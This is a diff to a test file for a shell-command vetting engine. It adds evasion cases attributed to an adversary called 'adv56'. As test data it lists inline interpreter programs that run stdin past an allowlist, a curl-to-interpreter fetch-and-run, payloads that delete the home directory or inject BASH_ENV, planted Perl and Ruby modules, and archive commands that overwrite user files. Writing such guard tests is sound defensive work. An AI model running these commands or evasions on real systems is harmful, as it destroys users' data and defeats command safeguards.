@@ -63,6 +63,19 @@ _PROGRAMS_THAT_RUN_IT = [
     "lua -e 'load(io.read(\"a\"))()'",
     "lua -e 'os.execute(io.read(\"a\"))'",
     "php -r 'echo json_decode(file_get_contents(\"php://stdin\"))->v;'",
+    # the adversary of this stop (adv56), each live against the first allowlist
+    "python3 -c 'import sys; (lambda exec: 0); [exec][0](sys.stdin.read())'",
+    "python3 -c 'import sys; x = [exec][0]; exec = 0; x(sys.stdin.read())'",
+    'node -p \'[]["constructor"]["constructor"](require("fs").readFileSync(0, "utf8"))()\'',
+    'node -e \'const d = JSON.parse(require("fs").readFileSync(0)); console.log(require("fs").readFileSync(d.p))\'',
+    'node -e \'{ let setTimeout = 1 } setTimeout(require("fs").readFileSync(0, "utf8"))\'',
+    "perl -e 'chomp(@ARGV = <STDIN>); print while <>'",
+    "perl -e 'print 1; # '\\''\nopen F, \">x.pl\"; print F <STDIN>; close F; require \"./x.pl\"; # '\\'''",
+    'perl -e \'use if 1, "re", lc "EVAL"; $x = <STDIN>; print "ok" if "a" =~ $x\'',
+    "ruby -e 'instance_eval = 0; instance_eval(STDIN.read)'",
+    "ruby -e 'ARGV.replace([STDIN.read]); puts ARGF.read'",
+    'lua -e \'local x = io.read("a"); local f = io["open"]("../notes.txt", "w"); f:write(x)\'',
+    "lua -e 'for l in io.lines(io.read()) do print(l) end'",
 ]
 _DATA_READERS = [
     "python3 -c 'import json, sys; print(json.load(sys.stdin)[\"tag_name\"])'",
@@ -77,6 +90,14 @@ _DATA_READERS = [
     "perl -MJSON::PP -e 'my $d = decode_json(join \"\", <STDIN>); print $d->{tag_name}'",
     "ruby -rjson -e 'puts JSON.parse(STDIN.read)[\"tag_name\"]'",
     "lua -e 'print(io.read(\"a\"))'",
+    # adv56's false alarms of the first allowlist
+    "perl -pe 's/foo/bar/g'",
+    "perl -ne 'print $1 if m{<title>(.*)</title>}'",
+    'perl -lne \'print for /href="([^"]+)"/g\'',
+    "ruby -ne 'puts $_ if $_ =~ /version/'",
+    "ruby -e 'puts STDIN.read.scan(/v\\d+/).uniq'",
+    "python3 -c 'import sys, tomllib; print(tomllib.load(sys.stdin.buffer)[\"tool\"])'",
+    "python3 -c 'import html, sys; print(html.unescape(sys.stdin.read()))'",
 ]
 
 
@@ -120,11 +141,17 @@ def test_the_data_only_shapes(name: str, code: str, expected: bool) -> None:
 
 
 @pytest.mark.skipif(shutil.which("curl") is None, reason="curl is not installed")
-def test_a_spawn_of_the_networks_text_loses_the_note_unguarded_and_is_refused(
-    tmp_path: Path, home_project: tuple[Engine, Path, Path], served: str
+@pytest.mark.parametrize(
+    ("served_file", "program"),
+    [
+        ("p.sh", "python3 -c \"import os, sys; os.posix_spawnp('sh', ['sh', '-c', sys.stdin.read()], os.environ)\""),
+        ("p.py", "python3 -c 'import sys; (lambda exec: 0); [exec][0](sys.stdin.read())'"),  # adv56
+    ],
+)
+def test_an_inline_program_running_the_networks_text_loses_the_note_unguarded_and_is_refused(
+    tmp_path: Path, home_project: tuple[Engine, Path, Path], served: str, served_file: str, program: str
 ) -> None:
-    program = "import os, sys; os.posix_spawnp('sh', ['sh', '-c', sys.stdin.read()], os.environ)"
-    lost_unguarded_then_blocked(tmp_path, home_project, f'curl -s {served}/p.sh | python3 -c "{program}"', note_lost)
+    lost_unguarded_then_blocked(tmp_path, home_project, f"curl -s {served}/{served_file} | {program}", note_lost)
 
 
 @pytest.mark.skipif(shutil.which("curl") is None, reason="curl is not installed")
@@ -147,6 +174,10 @@ _FISH_PAYLOADS = [
     "fish -c 'set -a c -rf; set -p c rm; $c ~'",
     "fish -c 'set d (echo ~); rm -rf $d'",
     "fish -c 'set -- e.sh; set -x BASH_ENV $argv[1]; bash -c true'",
+    # (adv56) a variable named only at run time may be any (Variables.readings, ANY_VARIABLE), in sh too
+    "fish -c 'set -x (string upper bash_env) e.sh; bash -c true'",
+    'export "$(cat f)=e.sh"; bash -c true',
+    'declare -x "$(cat f)=./x.so"; ls',
 ]
 _FISH_NEAR_MISSES = [
     "fish -c 'set x 1; echo $x'",
@@ -156,6 +187,8 @@ _FISH_NEAR_MISSES = [
     "fish -c 'set -gx EDITOR vim; git status'",
     "bash -c 'set -x; ls'",
     "bash -c 'set -- a b; echo $1'",
+    "fish -c 'set -x (echo FOO) bar; ls'",
+    'unset "$(cat f)"; ls',
 ]
 
 _fish = home_project_verdicts(_FISH_PAYLOADS, _FISH_NEAR_MISSES)
@@ -183,7 +216,13 @@ def _users_makefile(home: Path) -> Path:
 def test_cmakes_build_files_land_where_it_was_started(home_project: tuple[Engine, Path, Path]) -> None:
     engine, home, _ = home_project
     _users_makefile(home)
-    for command in ("cd .. && cmake -S p", "cd .. && cmake -S ./p -B .", "cd ~ && cmake -S p -DX=1"):
+    for command in (
+        "cd .. && cmake -S p",
+        "cd .. && cmake -S ./p -B .",
+        "cd ~ && cmake -S p -DX=1",
+        "cmake . -B ~",  # (adv56) options after the first operand
+        "cd src && cmake .. -B ../..",
+    ):
         assert_not_allowed(engine, command)
     for command in ("cd .. && cmake -S p -B p/build", "cmake -S . -B build", "cmake -S src -B build", "cmake ."):
         assert_allowed(engine, command)
@@ -216,7 +255,29 @@ _COMPRESSED = [
     "lzip ~/notes.txt",
     "gzip -S .x ~/notes.txt",
 ]
-_KEPT = ["gzip -k ~/notes.txt", "gzip -c ~/notes.txt > n.gz", "zstd ~/notes.txt", "gzip notes.txt", "xz -t ~/x.xz"]
+# (adv56) lz4 deletes its input with --rm even under -c, and writes its second operand; zstdmt and pzstd are zstd; tar's
+# archive (-f) is written where tar was started, not under -C
+_COMPRESSED += [
+    "lz4 --rm -c ~/notes.txt > x.lz4",
+    "lz4 -f a.py ~/notes.txt",
+    "unlz4 -f a.lz4 ~/notes.txt",
+    "zstdmt --rm ~/notes.txt",
+    "pzstd --rm ~/notes.txt",
+    "tar -C src -cf ../notes.txt .",
+    "tar -cf ~/notes.txt a.py",
+    "tar --create --file=../notes.txt a.py",
+]
+_KEPT = [
+    "gzip -k ~/notes.txt",
+    "gzip -c ~/notes.txt > n.gz",
+    "zstd ~/notes.txt",
+    "gzip notes.txt",
+    "xz -t ~/x.xz",
+    "lz4 a.py a.py.lz4",
+    "lz4 -m a.py src/b.py",
+    "tar -czf ~/backup.tgz src",
+    "tar -cf - src | gzip > s.tgz",
+]
 
 _compressors = home_project_verdicts(_COMPRESSED, _KEPT)
 test_a_compressor_replacing_a_users_file_is_not_allowed = _compressors[0]
@@ -238,9 +299,14 @@ _OPTION_VARIABLES = [
     "PERL5OPT='-M./x.pm' prove",
     "PERL5OPT='-Mstrict;system(1)' prove",
     "PERL5OPT=-I. prove",
+    # (adv56) the folders a perl or ruby program finds its modules in, whichever program it is
+    "echo 'system(1)' > x.pm; PERL5LIB=. PERL5OPT=-Mx shasum a.py",
+    "echo 'system(1)' > x.pm; PERL5LIB=. shasum a.py",
+    "echo 'system(1)' > lib/x.rb; RUBYLIB=lib:other rake",
     "RUBYOPT=-r./x.rb bundle exec rake",
     "RUBYOPT='-I. -rx' rake",
     "rsync -a --delete empty/ /var/tmp",
+    "mv ~/src/other /var/tmp",
     "cp a.py /var",
     "zip -m /tmp/x.zip ~/notes.txt",
     "zip -m x.zip ../notes.txt",
@@ -251,8 +317,9 @@ _OPTION_VARIABLE_NEAR_MISSES = [
     "PERL5OPT=-d:NYTProf perl a.pl",
     "RUBYOPT=-rbundler/setup bundle exec rake",
     "RUBYOPT=-W0 ruby a.rb",
+    "PERL5LIB=lib prove -r t",
     "cp a.py /var/tmp",
-    "mv a.py /dev/shm/",
+    "install -m 644 a.py /dev/shm/",
     "zip -m ~/backup.zip a.py",
     "zip -mr ~/b.zip src",
 ]
